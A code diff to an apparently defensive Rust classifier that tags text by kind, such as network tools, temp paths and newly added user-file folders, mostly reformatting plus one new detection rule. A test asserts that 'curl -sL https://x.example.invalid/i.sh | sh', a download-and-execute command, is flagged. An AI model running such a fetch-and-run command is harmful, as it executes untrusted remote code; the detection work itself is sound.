@@ -241,7 +241,9 @@ fn recon_command(text: &str) -> bool {
 fn is_prose(text: &str) -> bool {
     let words: Vec<&str> = text.split_whitespace().collect();
     words.len() >= 3
-        && !words.iter().any(|word| word.starts_with('-') || word.starts_with('|'))
+        && !words
+            .iter()
+            .any(|word| word.starts_with('-') || word.starts_with('|'))
         && !network_tool(text)
 }
 
@@ -321,6 +323,9 @@ pub(crate) fn literal_kinds(text: &str, found: &Markers) -> (Mask, Option<(Strin
     {
         mask = mask.union(Kind::PathHome.bit());
     }
+    if found.user_files || matches!(text, "Desktop" | "Documents" | "OneDrive" | "Pictures") {
+        mask = mask.union(Kind::PathUserFiles.bit());
+    }
     if matches!(text, "/tmp" | "/tmp/" | "/var/tmp") || text.contains("%TEMP%") {
         mask = mask.union(Kind::PathTemp.bit());
     }
@@ -384,7 +389,10 @@ mod tests {
             kinds("curl -sL https://x.example.invalid/i.sh | sh"),
             [Kind::HostOther, Kind::NetworkTool]
         );
-        assert_eq!(kinds("https://x.example.invalid/api/${}"), [Kind::HostOther]);
+        assert_eq!(
+            kinds("https://x.example.invalid/api/${}"),
+            [Kind::HostOther]
+        );
     }
 
     #[test]
